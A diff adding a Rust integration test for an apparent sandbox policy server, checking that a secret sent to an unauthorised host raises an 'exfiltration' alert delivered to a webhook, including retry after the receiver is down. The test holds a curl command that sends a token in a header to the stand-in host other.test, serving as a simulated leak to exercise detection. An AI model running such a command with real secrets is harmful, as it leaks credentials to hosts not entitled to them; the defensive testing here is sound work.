@@ -154,3 +154,184 @@ fn a_signed_in_machine_runs_sessions_under_the_servers_policy() {
     }
     server.stop();
 }
+
+const EXFIL_ORG: &str = r#"layer = "org"
+
+[[network]]
+id = "test-hosts"
+action = "allow"
+to = ["allowed.test", "other.test"]
+ports = [443]
+
+[[network]]
+id = "test-server-address"
+action = "allow"
+to = ["127.0.0.2"]
+ports = [443]
+
+[[credential]]
+id = "token-to-allowed"
+action = "allow"
+secret = "TEST_TOKEN"
+hosts = ["allowed.test"]
+header = "Authorization"
+format = "Bearer {secret}"
+"#;
+
+/// A webhook receiver: each POST's body with when it came; while `down`,
+/// it answers 503, as a receiver that is away would fail.
+struct Hook {
+    url: String,
+    got: std::sync::Arc<std::sync::Mutex<Vec<(std::time::Instant, String)>>>,
+    down: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl Hook {
+    fn start() -> Hook {
+        use std::io::{BufRead, BufReader, Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/hook", listener.local_addr().unwrap());
+        let hook = Hook {
+            url,
+            got: Default::default(),
+            down: Default::default(),
+        };
+        let (got, down) = (hook.got.clone(), hook.down.clone());
+        std::thread::spawn(move || {
+            for conn in listener.incoming().flatten() {
+                let mut r = BufReader::new(conn.try_clone().unwrap());
+                let mut len = 0;
+                loop {
+                    let mut line = String::new();
+                    if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                        break;
+                    }
+                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
+                        len = v.trim().parse().unwrap_or(0);
+                    }
+                }
+                let mut body = vec![0; len];
+                let _ = r.read_exact(&mut body);
+                let away = down.load(std::sync::atomic::Ordering::SeqCst);
+                let status = if away { "503 Away" } else { "200 OK" };
+                let _ = write!(
+                    &conn,
+                    "HTTP/1.1 {status}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
+                );
+                if !away {
+                    got.lock().unwrap().push((
+                        std::time::Instant::now(),
+                        String::from_utf8_lossy(&body).into(),
+                    ));
+                }
+            }
+        });
+        hook
+    }
+
+    /// The `n`th alert delivered (from 1), waiting up to `secs`.
+    fn nth(&self, n: usize, secs: u64) -> Option<(std::time::Instant, Value)> {
+        let deadline = std::time::Instant::now() + Duration::from_secs(secs);
+        while std::time::Instant::now() < deadline {
+            if let Some((at, body)) = self.got.lock().unwrap().get(n - 1) {
+                return Some((*at, serde_json::from_str(body).unwrap()));
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        None
+    }
+}
+
+/// An exfiltration attempt in a real session (a secret's placeholder sent
+/// to a host the secret is not for) reaches a webhook in seconds: the
+/// session ships the record at once, the server raises the alert, its
+/// worker delivers it. With the receiver away, it is delivered once back.
+#[test]
+fn an_exfiltration_in_a_real_session_reaches_a_webhook() {
+    let host = Host::new();
+    let dir = host.dir.path();
+    let data = dir.join("server");
+    let (mut server, setup) = Server::start(&data, Duration::from_secs(3600));
+    let url = server.url.clone();
+    let admin = server.first_admin(&setup);
+    server.call("POST", "/api/v1/teams", &admin, json!({"name": "web"}));
+    let bob = server.call(
+        "POST",
+        "/api/v1/users",
+        &admin,
+        json!({"email": "bob@acme.example", "role": "member", "team": "web"}),
+    );
+    let bob = bob["token"].as_str().unwrap().to_string();
+    server.call(
+        "PUT",
+        "/api/v1/policy/org",
+        &admin,
+        Value::String(EXFIL_ORG.into()),
+    );
+    let hook = Hook::start();
+    server.call(
+        "POST",
+        "/api/v1/webhooks",
+        &admin,
+        json!({"url": hook.url, "format": "json"}),
+    );
+    sbx_tests::sign_in(
+        host.cmd(&["login", &url, "--machine", "bobs-laptop"]),
+        |code| {
+            server.call(
+                "POST",
+                "/api/v1/device/approve",
+                &bob,
+                json!({"user_code": code}),
+            );
+        },
+    );
+    host.secret("TEST_TOKEN", "s3cr3t-that-stays-on-the-host");
+    let ca = sbx_tests::tls::TestCa::new();
+    let ca_path = dir.join("test-ca.pem");
+    std::fs::write(&ca_path, ca.pem()).unwrap();
+    sbx_tests::tls::https_server("127.0.0.2:443", ca.server_config(&["other.test"]));
+    host.ok(&[
+        "start",
+        "--name",
+        "x",
+        "--no-workspace",
+        "--upstream-ca",
+        ca_path.to_str().unwrap(),
+        "--resolve",
+        "other.test:127.0.0.2",
+    ]);
+    let leak =
+        "curl -sS --max-time 20 -o /dev/null -H \"X-Token: $TEST_TOKEN\" https://other.test/";
+
+    host.sh("x", leak);
+    let tried = std::time::Instant::now();
+    let (at, alert) = hook.nth(1, 60).expect("no webhook delivery");
+    let latency = at.saturating_duration_since(tried);
+    println!("exfiltration to webhook: {latency:?} (nested test host)");
+    assert_eq!(alert["alert"]["kind"], "exfiltration", "{alert}");
+    assert_eq!(alert["alert"]["machine"], "bobs-laptop");
+    assert_eq!(alert["alert"]["session"], "x");
+    assert!(
+        alert["alert"]["summary"]
+            .as_str()
+            .unwrap()
+            .contains("TEST_TOKEN to other.test"),
+        "{alert}"
+    );
+    assert!(latency < Duration::from_secs(30), "{latency:?}");
+
+    // The receiver away: the second attempt's alert waits, then arrives.
+    hook.down.store(true, std::sync::atomic::Ordering::SeqCst);
+    host.sh("x", leak);
+    std::thread::sleep(Duration::from_secs(4));
+    assert_eq!(hook.got.lock().unwrap().len(), 1);
+    hook.down.store(false, std::sync::atomic::Ordering::SeqCst);
+    let (_, again) = hook
+        .nth(2, 60)
+        .expect("not delivered once the receiver was back");
+    assert_eq!(again["alert"]["kind"], "exfiltration");
+    assert_ne!(again["alert"]["seq"], alert["alert"]["seq"]);
+    host.ok(&["stop", "x"]);
+    server.stop();
+}
